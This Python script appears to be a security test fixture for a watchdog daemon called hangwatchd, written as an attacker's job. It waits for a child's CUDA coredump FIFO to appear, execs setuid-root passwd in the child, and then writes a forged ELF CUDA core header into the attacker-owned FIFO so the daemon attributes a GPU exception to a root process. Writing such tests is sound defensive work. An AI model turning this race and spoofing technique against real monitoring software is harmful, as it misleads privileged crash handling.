"""An attacker's own job (``hangwatchd run -- python3 setuid_after_fifo.py``): a program below it is
given its exception FIFO as it starts (it runs as the attacker then), and then execs a setuid-root
program (``passwd``, which waits for a password on a pipe). The job writes a CUDA coredump's header
into that FIFO (the attacker's own, mode 0600): a GPU exception of a process that now runs as root.
Prints "begun PID" once written, then beats on."""
import os
import struct
import subprocess
import sys
import time

import hangwatchd

pattern = os.environ["CUDA_COREDUMP_FILE"]
r, w = os.pipe()  # passwd's stdin: nothing ever comes, so it waits
child = subprocess.Popen([sys.executable, "-c", """
import os, sys, time
fifo = sys.argv[1].replace("%p", str(os.getpid()))
while not os.path.exists(fifo):
    time.sleep(0.05)
os.execv("/usr/bin/passwd", ["passwd"])
""", pattern], stdin=r, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def euid(pid: int) -> int:
    with open(f"/proc/{pid}/status") as f:
        return int(next(line for line in f if line.startswith("Uid:")).split()[2])


while euid(child.pid) != 0:
    time.sleep(0.05)
header = bytearray(64)
header[:6] = b"\x7fELF\x02\x01"
struct.pack_into("<HH", header, 16, 4, 190)  # ET_CORE, EM_CUDA
fd = os.open(pattern.replace("%p", str(child.pid)), os.O_WRONLY)
os.write(fd, bytes(header))
print(f"begun {child.pid}", flush=True)
while True:
    hangwatchd.beat()
    time.sleep(0.2)
